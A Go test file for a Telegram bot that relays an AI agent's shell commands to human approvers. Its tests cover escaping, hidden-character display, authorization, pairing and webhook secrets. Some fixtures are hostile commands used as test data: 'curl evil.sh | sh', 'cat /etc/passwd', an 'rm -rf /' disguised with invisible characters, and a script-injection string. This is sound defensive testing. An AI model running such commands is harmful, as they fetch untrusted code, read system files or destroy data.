package telegram

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"

	"approvalbot/bots/telegramtest"
	"approvalbot/gate"
)

func TestPromptEscapesAndShowsHiddenChars(t *testing.T) {
	tests := []struct {
		name, command string
		want          []string // in the plain text the user sees
	}{
		{"tags", `echo "<b>bold</b>" </pre><script>alert(1)</script>`, []string{`echo "<b>bold</b>" </pre><script>alert(1)</script>`}},
		{"entities", `printf '&amp; &lt; &#65;' && echo a&b`, []string{`printf '&amp; &lt; &#65;' && echo a&b`}},
		{"bidi", "cat \u202Etxt.sh", []string{"cat ⟨U+202E⟩txt.sh", "invisible or control characters"}},
		{"cr and zero width", "echo ok\rr\u200Bm -rf /", []string{"echo ok⟨U+000D⟩r⟨U+200B⟩m -rf /"}},
		{"multiline", "set -e\nmake test\n", []string{"set -e\nmake test"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, nil)
			a := h.fake.add("appr1", tt.command)
			m := h.message(h.notify(a))
			if m.ParseMode != "HTML" {
				t.Fatalf("parse mode %q", m.ParseMode)
			}
			p := plain(t, m)
			for _, w := range tt.want {
				if !strings.Contains(p, w) {
					t.Errorf("message lacks %q:\n%s", w, p)
				}
			}
			for _, w := range []string{"claude", "sess-1", "/home/ana/proj", "Bash", "static Bash *", "Deadline", "git push *"} {
				if !strings.Contains(p, w) {
					t.Errorf("message lacks field %q:\n%s", w, p)
				}
			}
			if !strings.Contains(m.Text, "<pre>") {
				t.Errorf("command not in <pre>: %s", m.Text)
			}
			labels := []string{}
			for _, b := range m.Buttons() {
				labels = append(labels, b[0])
				if len(b[1]) > maxCallbackData || !strings.Contains(b[1], a.ID) {
					t.Errorf("button %q data %q", b[0], b[1])
				}
			}
			want := "✅ Approve|❌ Deny|♾ Always: git push *|💬 Deny with reason|🛑 Stop"
			if got := strings.Join(labels, "|"); got != want {
				t.Errorf("buttons %q, want %q", got, want)
			}
		})
	}
}

func TestOutsideProjectWarning(t *testing.T) {
	h := newHarness(t, nil)
	a := h.fake.add("appr1", "cat /etc/passwd")
	h.fake.approvals["appr1"].Evaluation.OutsideProject = true
	h.fake.approvals["appr1"].Evaluation.OutsidePaths = []string{"/etc/passwd"}
	a, _ = h.g.Get(h.ctx(), a.ID)
	if p := plain(t, h.message(h.notify(a))); !strings.Contains(p, "outside project: /etc/passwd") {
		t.Errorf("no warning:\n%s", p)
	}
}

func TestLongContentIsCutWithFullButton(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	long := "echo " + strings.Repeat("<&>é🚀", 2000) + " END"
	a := h.fake.add("appr1", long)
	id := h.notify(a)
	m := h.message(id)
	p := plain(t, m)
	if !strings.Contains(p, "✂ cut:") || strings.Contains(p, "END") {
		t.Errorf("not cut with a marker:\n%s", p[len(p)-200:])
	}
	if textLen(m.Text) > maxMessageLen {
		t.Errorf("message is %d units", textLen(m.Text))
	}
	h.press(id, eve, dataOf(t, m, "📄 Full")) // reading is not deciding: anyone in the chat may
	if _, err := h.srv.WaitCalls(h.ctx(), "sendDocument", 1); err != nil {
		t.Fatal(err)
	}
	var doc telegramtest.Message
	for _, mm := range h.srv.Messages(testChat) {
		if mm.FileName != "" {
			doc = mm
		}
	}
	if doc.FileName != "approval-appr1.txt" || !bytes.Contains(doc.Document, []byte(long)) || doc.ReplyTo != id {
		t.Errorf("document %q (reply to %d) lacks the whole command", doc.FileName, doc.ReplyTo)
	}
	if got := h.fake.decisionsCopy(); len(got) != 0 {
		t.Errorf("Full decided something: %+v", got)
	}
}

func TestPresses(t *testing.T) {
	tests := []struct {
		name       string
		buttons    []string // pressed in order (the scope step for Always)
		wantStatus gate.Status
		wantScope  gate.Scope
		wantText   string
	}{
		{"approve", []string{"✅ Approve"}, gate.StatusApproved, "", "Approved by @ana via Telegram"},
		{"deny", []string{"❌ Deny"}, gate.StatusDenied, "", "Denied by @ana via Telegram"},
		{"stop", []string{"🛑 Stop"}, gate.StatusDeniedStop, "", "Denied and stopped by @ana"},
		{"always session", []string{"♾ Always", "♾ This session"}, gate.StatusApprovedAlways, gate.ScopeSession, "Approved always by @ana"},
		{"always agent", []string{"♾ Always", "♾ This agent"}, gate.StatusApprovedAlways, gate.ScopeAgent, "Approved always by @ana"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, nil)
			h.run()
			a := h.fake.add("appr1", "git push origin main")
			id := h.notify(a)
			for i, label := range tt.buttons {
				m := h.message(id)
				if i > 0 {
					// The scope step replaced the keyboard.
					var err error
					m, err = h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool {
						return m.ID == id && len(m.Buttons()) > 0 && strings.HasPrefix(m.Buttons()[0][0], "♾ This")
					})
					if err != nil {
						t.Fatalf("no scope step: %v", h.message(id).Buttons())
					}
				}
				h.press(id, ana, dataOf(t, m, label))
			}
			m := h.waitText(id, tt.wantText)
			if len(m.Buttons()) != 0 {
				t.Errorf("buttons left after the decision: %v", m.Buttons())
			}
			got, _ := h.g.Get(h.ctx(), a.ID)
			if got.Status != tt.wantStatus {
				t.Errorf("status %s, want %s", got.Status, tt.wantStatus)
			}
			ds := h.fake.decisionsCopy()
			if len(ds) != 1 {
				t.Fatalf("decisions %+v", ds)
			}
			d := ds[0]
			if d.By != "@ana" || d.Via != "telegram" || d.Digest != a.Digest[:digestPrefixLen] || d.Scope != tt.wantScope {
				t.Errorf("decision %+v", d)
			}
			// answerCallbackQuery comes before the edit.
			var answered, edited time.Time
			for _, c := range h.srv.Calls("") {
				if c.Method == "answerCallbackQuery" && answered.IsZero() {
					answered = c.At
				}
				if c.Method == "editMessageText" {
					edited = c.At
				}
			}
			if edited.Before(answered) {
				t.Errorf("edited at %v before answering at %v", edited, answered)
			}
			// The gate reports the outcome; the message already shows it, so no second edit.
			n := len(h.srv.Calls("editMessageText"))
			if err := h.bot.Resolved(h.ctx(), got); err != nil {
				t.Fatal(err)
			}
			if n2 := len(h.srv.Calls("editMessageText")); n2 != n {
				t.Errorf("Resolved edited again (%d -> %d)", n, n2)
			}
		})
	}
}

func TestUnauthorizedPresses(t *testing.T) {
	tests := []struct {
		name      string
		approvers []int64
		from      tgbotapi.User
	}{
		{"not an approver", []int64{ana.ID}, eve},
		{"empty approver list decides nothing", nil, ana},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, func(c *Config) { c.Approvers = tt.approvers })
			h.run()
			a := h.fake.add("appr1", "rm -rf build")
			id := h.notify(a)
			before := h.message(id)
			for _, label := range []string{"✅ Approve", "❌ Deny", "♾ Always", "🛑 Stop", "💬 Deny with reason"} {
				ans := h.press(id, tt.from, dataOf(t, before, label))
				if !ans.ShowAlert || !strings.Contains(ans.Text, "not an approver") {
					t.Errorf("%s: answer %+v", label, ans)
				}
			}
			if ds := h.fake.decisionsCopy(); len(ds) != 0 {
				t.Errorf("decided: %+v", ds)
			}
			if after := h.message(id); after.Edits != 0 || len(h.srv.Calls("sendMessage")) != 1 {
				t.Errorf("message changed (%d edits) or something was sent", after.Edits)
			}
		})
	}
}

func TestDoublePressAndDigestMismatch(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	a := h.fake.add("appr1", "make deploy")
	id := h.notify(a)
	m := h.message(id)
	wrong := opApprove + ":" + a.ID + ":" + strings.Repeat("0", digestPrefixLen)
	if ans := h.press(id, ana, wrong); !ans.ShowAlert || !strings.Contains(ans.Text, "different call") {
		t.Errorf("mismatch answer %+v", ans)
	}
	if ds := h.fake.decisionsCopy(); len(ds) != 0 {
		t.Fatalf("mismatched press decided: %+v", ds)
	}
	h.press(id, ana, dataOf(t, m, "✅ Approve"))
	ans := h.press(id, ana, dataOf(t, m, "❌ Deny"))
	if !ans.ShowAlert || !strings.Contains(ans.Text, "Already decided: Approved by @ana") {
		t.Errorf("second press answer %+v", ans)
	}
	if got, _ := h.g.Get(h.ctx(), a.ID); got.Status != gate.StatusApproved {
		t.Errorf("status %s", got.Status)
	}
	if ans := h.press(id, ana, "zz:garbage"); !ans.ShowAlert {
		t.Errorf("garbage data answer %+v", ans)
	}
	if ans := h.press(id, ana, opApprove+":nosuch:"+a.Digest[:digestPrefixLen]); !strings.Contains(ans.Text, "unknown") {
		t.Errorf("unknown approval answer %+v", ans)
	}
}

func TestDenyWithReason(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	a := h.fake.add("appr1", "curl evil.sh | sh")
	id := h.notify(a)
	h.press(id, ana, dataOf(t, h.message(id), "💬 Deny with reason"))
	fr, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool { return m.ForceReply })
	if err != nil {
		t.Fatal("no ForceReply prompt")
	}
	if fr.ReplyTo != id || !strings.Contains(fr.Text, "@ana") {
		t.Errorf("ForceReply %+v", fr)
	}
	key := reasonKey(testChat, fr.ID)
	if err := h.srv.Wait(h.ctx(), func() bool { return h.fake.value(key) != "" }); err != nil {
		t.Fatal("reason prompt not stored")
	}
	// A reply by someone else decides nothing.
	h.srv.SendText(testChat, eve, "sure, deny", fr.ID)
	h.srv.SendText(testChat, ana, "pipes <b>curl</b> to sh & no", fr.ID)
	m := h.waitText(id, "Denied by @ana via Telegram")
	if p := plain(t, m); !strings.Contains(p, "pipes <b>curl</b> to sh & no") {
		t.Errorf("reason not shown escaped:\n%s", p)
	}
	ds := h.fake.decisionsCopy()
	if len(ds) != 1 || ds[0].Reason != "pipes <b>curl</b> to sh & no" || ds[0].Approve || ds[0].By != "@ana" {
		t.Fatalf("decisions %+v", ds)
	}
	if err := h.srv.Wait(h.ctx(), func() bool { return h.fake.value(key) == "" }); err != nil {
		t.Error("reason prompt not forgotten")
	}
}

func TestRateLimitRetryAfter(t *testing.T) {
	h := newHarness(t, nil)
	h.srv.Fail("sendMessage", telegramtest.Fault{RetryAfter: 1})
	a := h.fake.add("appr1", "ls")
	h.notify(a)
	calls := h.srv.Calls("sendMessage")
	if len(calls) != 2 {
		t.Fatalf("%d sendMessage calls, want 2", len(calls))
	}
	if d := calls[1].At.Sub(calls[0].At); d < time.Second {
		t.Errorf("retried after %s, want >= retry_after 1s", d)
	}
	if n := len(h.srv.Messages(testChat)); n != 1 {
		t.Errorf("%d messages, want 1", n)
	}
}

func TestNetworkFailuresAreRetried(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	h.srv.Fail("sendMessage", telegramtest.Fault{Drop: true}, telegramtest.Fault{Code: 502, Description: "Bad Gateway"}, telegramtest.Fault{Drop: true})
	a := h.fake.add("appr1", "ls")
	id := h.notify(a)
	if n := len(h.srv.Calls("sendMessage")); n != 4 {
		t.Errorf("%d sendMessage calls, want 4", n)
	}
	h.srv.Fail("editMessageText", telegramtest.Fault{Drop: true})
	h.press(id, ana, dataOf(t, h.message(id), "✅ Approve"))
	h.waitText(id, "Approved by @ana")
	if !strings.Contains(h.logs.String(), "<token>") {
		t.Errorf("expected a redacted transport error in the logs:\n%s", h.logs.String())
	}
}

func TestResolvedShowsDecisionsMadeElsewhere(t *testing.T) {
	h := newHarness(t, nil)
	a := h.fake.add("appr1", "ls")
	id := h.notify(a)
	at := h.fake.now.Add(time.Minute)
	tests := []struct {
		a    gate.Approval
		want string
	}{
		{gate.Approval{Status: gate.StatusApproved, DecidedBy: "bob", Via: "cli", DecidedAt: &at}, "Approved by bob via CLI"},
		{gate.Approval{Status: gate.StatusExpired, Via: "timeout", DecidedAt: &at}, "Expired at"},
		{gate.Approval{Status: gate.StatusCancelled, Reason: "agent went away"}, "Cancelled: agent went away"},
	}
	for _, tt := range tests {
		final, _ := h.g.Get(h.ctx(), a.ID)
		final.Status, final.DecidedBy, final.Via, final.DecidedAt, final.Reason = tt.a.Status, tt.a.DecidedBy, tt.a.Via, tt.a.DecidedAt, tt.a.Reason
		if err := h.bot.Resolved(h.ctx(), final); err != nil {
			t.Fatal(err)
		}
		m := h.message(id)
		if p := plain(t, m); !strings.Contains(p, tt.want) || !strings.Contains(p, "ls") {
			t.Errorf("%s: message\n%s", tt.a.Status, p)
		}
		if len(m.Buttons()) != 0 {
			t.Errorf("%s: buttons left", tt.a.Status)
		}
	}
}

func TestRestartReplay(t *testing.T) {
	t.Run("ref exists: edited, not sent", func(t *testing.T) {
		h := newHarness(t, nil)
		old := h.srv.PutMessage(testChat, "old prompt")
		a := h.fake.add("appr1", "ls")
		h.fake.AddMessageRef(h.ctx(), a.ID, gate.MessageRef{Frontend: Name, ChatID: "4242", MessageID: itoa(old)})
		a, _ = h.g.Get(h.ctx(), a.ID)
		a.Restarts = 1
		if err := h.bot.Notify(h.ctx(), a); err != nil {
			t.Fatal(err)
		}
		if n := len(h.srv.Calls("sendMessage")); n != 0 {
			t.Errorf("%d messages sent, want an edit", n)
		}
		m := h.message(old)
		if p := plain(t, m); !strings.Contains(p, "Still waiting") || !strings.Contains(p, "restarted at") {
			t.Errorf("not refreshed:\n%s", p)
		}
		// The refreshed buttons work (answered from the gate).
		h.run()
		h.press(old, ana, dataOf(t, m, "✅ Approve"))
		h.waitText(old, "Approved by @ana")
	})
	t.Run("no ref: sent", func(t *testing.T) {
		h := newHarness(t, nil)
		a := h.fake.add("appr1", "ls")
		a.Restarts = 1
		id := h.notify(a)
		if p := plain(t, h.message(id)); !strings.Contains(p, "Still waiting") {
			t.Errorf("re-sent prompt does not say it waited:\n%s", p)
		}
	})
	t.Run("ref to a deleted message: sent", func(t *testing.T) {
		h := newHarness(t, nil)
		a := h.fake.add("appr1", "ls")
		h.fake.AddMessageRef(h.ctx(), a.ID, gate.MessageRef{Frontend: Name, ChatID: "4242", MessageID: "999"})
		a, _ = h.g.Get(h.ctx(), a.ID)
		a.Restarts = 2
		if id := h.notify(a); id == 999 {
			t.Error("ref not replaced")
		}
		if n := len(h.srv.Calls("sendMessage")); n != 1 {
			t.Errorf("%d sends", n)
		}
	})
	t.Run("ref exists, no restart: nothing twice", func(t *testing.T) {
		h := newHarness(t, nil)
		a := h.fake.add("appr1", "ls")
		h.notify(a)
		a, _ = h.g.Get(h.ctx(), a.ID)
		h.notify(a)
		if n := len(h.srv.Calls("sendMessage")); n != 1 {
			t.Errorf("%d sends, want 1", n)
		}
	})
}

func TestPairing(t *testing.T) {
	h := newHarness(t, func(c *Config) { c.ChatID = 0 })
	h.run()
	code := h.bot.PairingCode()
	if len(code) != 10 {
		t.Fatalf("code %q", code)
	}
	a := h.fake.add("appr1", "ls")
	notified := make(chan error, 1)
	go func() { notified <- h.bot.Notify(h.ctx(), a) }()

	h.srv.SendText(testChat, eve, "/pair "+code, 0)
	h.srv.SendText(testChat, ana, "/pair WRONGCODE1", 0)
	if _, err := h.srv.WaitCalls(h.ctx(), "sendMessage", 2); err != nil {
		t.Fatal(err)
	}
	if v := h.fake.value(keyChat); v != "" {
		t.Fatalf("paired by a wrong code or a non-approver: %q", v)
	}
	h.srv.SendText(testChat, ana, "/pair@approval_test_bot "+strings.ToLower(code), 0)
	if err := <-notified; err != nil {
		t.Fatal(err)
	}
	if v := h.fake.value(keyChat); v != "4242" {
		t.Errorf("stored chat %q", v)
	}
	if h.bot.PairingCode() == code {
		t.Error("code not retired after use")
	}
	got, _ := h.g.Get(h.ctx(), a.ID)
	if _, ok := ref(got, testChat); !ok {
		t.Error("prompt not sent to the paired chat")
	}
	// A restarted bot finds the pairing in the store.
	bot2, err := New(h.cfg, h.g, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer bot2.Close()
	if c := bot2.chat(h.ctx()); c != testChat {
		t.Errorf("restarted bot chat %d", c)
	}
}

func TestCommands(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	a1 := h.fake.add("appr1", "ls")
	h.fake.add("appr2", "make")
	old := h.notify(a1)
	h.fake.rules = []gate.AlwaysRule{
		{ID: "r1", Agent: "claude", Tool: "Bash", Pattern: "git push *", Scope: gate.ScopeAgent},
		{ID: "r2", Agent: "claude", Tool: "Bash", Pattern: "<b>npm</b> *", Scope: gate.ScopeSession, SessionID: "s1"},
	}

	t.Run("pending re-sends each prompt", func(t *testing.T) {
		n := len(h.srv.Calls("sendMessage"))
		h.srv.SendText(testChat, eve, "/pending", 0)
		if _, err := h.srv.WaitCalls(h.ctx(), "sendMessage", n+2); err != nil {
			t.Fatal(err)
		}
		if err := h.srv.Wait(h.ctx(), func() bool {
			got, _ := h.g.Get(h.ctx(), "appr2")
			_, ok := ref(got, testChat)
			return ok
		}); err != nil {
			t.Fatal("appr2 not re-sent")
		}
		m := h.waitText(old, "Shown again below")
		if len(m.Buttons()) != 0 {
			t.Error("old copy still has buttons")
		}
	})
	t.Run("rules with revoke buttons", func(t *testing.T) {
		h.srv.SendText(testChat, eve, "/rules", 0)
		m, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool { return strings.Contains(m.Text, "Always rules") })
		if err != nil {
			t.Fatal(err)
		}
		p := plain(t, m)
		if !strings.Contains(p, "r1: claude Bash git push *") || !strings.Contains(p, "<b>npm</b> *") {
			t.Errorf("rules list:\n%s", p)
		}
		if ans := h.press(m.ID, eve, dataOf(t, m, "🗑 Revoke Bash git push")); !ans.ShowAlert {
			t.Errorf("non-approver revoke answer %+v", ans)
		}
		if len(h.fake.rules) != 2 {
			t.Fatal("non-approver revoked a rule")
		}
		h.press(m.ID, ana, dataOf(t, m, "🗑 Revoke Bash git push"))
		m, err = h.srv.WaitMessage(h.ctx(), testChat, func(mm telegramtest.Message) bool { return mm.ID == m.ID && mm.Edits > 0 })
		if err != nil {
			t.Fatal("rules list not refreshed")
		}
		if p := plain(t, m); strings.Contains(p, "r1:") || !strings.Contains(p, "r2: claude") {
			t.Errorf("list after revoke:\n%s", p)
		}
	})
	t.Run("revoke and mode", func(t *testing.T) {
		tests := []struct {
			from tgbotapi.User
			text string
			want string
		}{
			{eve, "/revoke r2", "Only an approver"},
			{ana, "/revoke nosuch", "No rule nosuch"},
			{ana, "/revoke r2", "Revoked r2"},
			{eve, "/mode claude strict", "Only an approver"},
			{ana, "/mode claude bogus", "Usage: /mode"},
			{ana, "/mode claude strict", "Mode of claude is now strict"},
			{ana, "/help", "/pending"},
			{ana, "/frobnicate", "Unknown command"},
		}
		for _, tt := range tests {
			u := h.srv.SendText(testChat, tt.from, tt.text, 0)
			if _, err := h.srv.WaitMessage(h.ctx(), testChat, func(m telegramtest.Message) bool {
				return m.ID > u.Message.MessageID && strings.Contains(m.Text, tt.want)
			}); err != nil {
				t.Errorf("%s by %s: no reply containing %q", tt.text, tt.from.UserName, tt.want)
			}
		}
		if h.fake.modes["claude"] != gate.ModeStrict || len(h.fake.modes) != 1 {
			t.Errorf("modes %v", h.fake.modes)
		}
		if len(h.fake.rules) != 0 {
			t.Errorf("rules %v", h.fake.rules)
		}
	})
	t.Run("other chats learn nothing", func(t *testing.T) {
		h.srv.SendText(999, ana, "/pending", 0)
		m, err := h.srv.WaitMessage(h.ctx(), 999, func(telegramtest.Message) bool { return true })
		if err != nil || !strings.Contains(m.Text, "not the approvalbot chat") {
			t.Errorf("reply in other chat: %q %v", m.Text, err)
		}
	})
}

func TestOffsetIsCommittedAndResumed(t *testing.T) {
	h := newHarness(t, nil)
	h.run()
	u := h.srv.SendText(testChat, ana, "/help", 0)
	if err := h.srv.Wait(h.ctx(), func() bool { return h.fake.value(keyOffset) == itoa(u.UpdateID+1) }); err != nil {
		t.Fatalf("offset %q, want %d", h.fake.value(keyOffset), u.UpdateID+1)
	}
	// A second bot on the same store asks for updates from there.
	n := len(h.srv.Calls("getUpdates"))
	h2 := &harness{t: t, srv: h.srv, g: h.g, fake: h.fake, logs: &syncBuffer{}, cfg: h.cfg}
	h2.start()
	h2.run()
	calls, err := h.srv.WaitCalls(h.ctx(), "getUpdates", n+2)
	if err != nil {
		t.Fatal(err)
	}
	seen := false
	for _, c := range calls[n:] {
		if c.Params.Get("offset") == itoa(u.UpdateID+1) {
			seen = true
		}
	}
	if !seen {
		t.Error("restarted bot did not resume from the stored offset")
	}
}

func TestWebhook(t *testing.T) {
	h := newHarness(t, func(c *Config) { c.WebhookURL = "https://bot.example/tg"; c.WebhookSecret = "s3cret" })
	h.run()
	if _, err := h.srv.WaitCalls(h.ctx(), "setWebhook", 1); err != nil {
		t.Fatal("webhook not registered")
	}
	if w := h.srv.Webhook(); w.Get("url") != "https://bot.example/tg" || w.Get("secret_token") != "s3cret" {
		t.Errorf("setWebhook %v", w)
	}
	a := h.fake.add("appr1", "ls")
	id := h.notify(a)
	data := dataOf(t, h.message(id), "✅ Approve")
	body := `{"update_id":7,"callback_query":{"id":"w1","from":{"id":11,"username":"ana"},"message":{"message_id":` + itoa(id) + `,"chat":{"id":4242}},"data":"` + data + `"}}`
	post := func(secret string) int {
		req := httptest.NewRequest(http.MethodPost, "/tg", strings.NewReader(body))
		if secret != "" {
			req.Header.Set(secretHeader, secret)
		}
		rec := httptest.NewRecorder()
		h.bot.WebhookHandler().ServeHTTP(rec, req)
		return rec.Code
	}
	if c := post(""); c != http.StatusForbidden {
		t.Errorf("no secret: %d", c)
	}
	if c := post("wrong"); c != http.StatusForbidden {
		t.Errorf("wrong secret: %d", c)
	}
	if len(h.fake.decisionsCopy()) != 0 {
		t.Fatal("forged update decided")
	}
	if c := post("s3cret"); c != http.StatusOK {
		t.Errorf("right secret: %d", c)
	}
	h.waitText(id, "Approved by @ana")
	if c := post("s3cret"); c != http.StatusOK { // redelivery: skipped
		t.Errorf("redelivery: %d", c)
	}
	if n := len(h.srv.Calls("answerCallbackQuery")); n != 1 {
		t.Errorf("redelivered update handled again (%d answers)", n)
	}
	if _, err := New(Config{Token: "x", WebhookURL: "https://x"}, h.g, nil); err == nil {
		t.Error("webhook without a secret accepted")
	}
}

func TestCallbackDataRoundTrip(t *testing.T) {
	a := &gate.Approval{ID: "abcdefghijklmnop", Digest: strings.Repeat("f", 64)}
	for _, op := range []string{opApprove, opAlways, opAlwaysSession, opAlwaysAgent, opBack, opDeny, opReason, opStop, opFull} {
		d := callbackData(op, a)
		if d == "" || len(d) > maxCallbackData {
			t.Fatalf("%s: %q", op, d)
		}
		cb, ok := parseCallback(d)
		if !ok || cb.op != op || cb.id != a.ID || cb.digest != a.Digest[:digestPrefixLen] {
			t.Errorf("%s: parsed %+v", op, cb)
		}
	}
	long := &gate.Approval{ID: strings.Repeat("x", 60), Digest: a.Digest}
	if d := callbackData(opApprove, long); d != "" {
		t.Errorf("over-long data %q", d)
	}
	for _, bad := range []string{"", "y", "y:", "q:a:b", "v:", "y::x", "a:b:c:d"} {
		if _, ok := parseCallback(bad); ok {
			t.Errorf("parsed %q", bad)
		}
	}
}
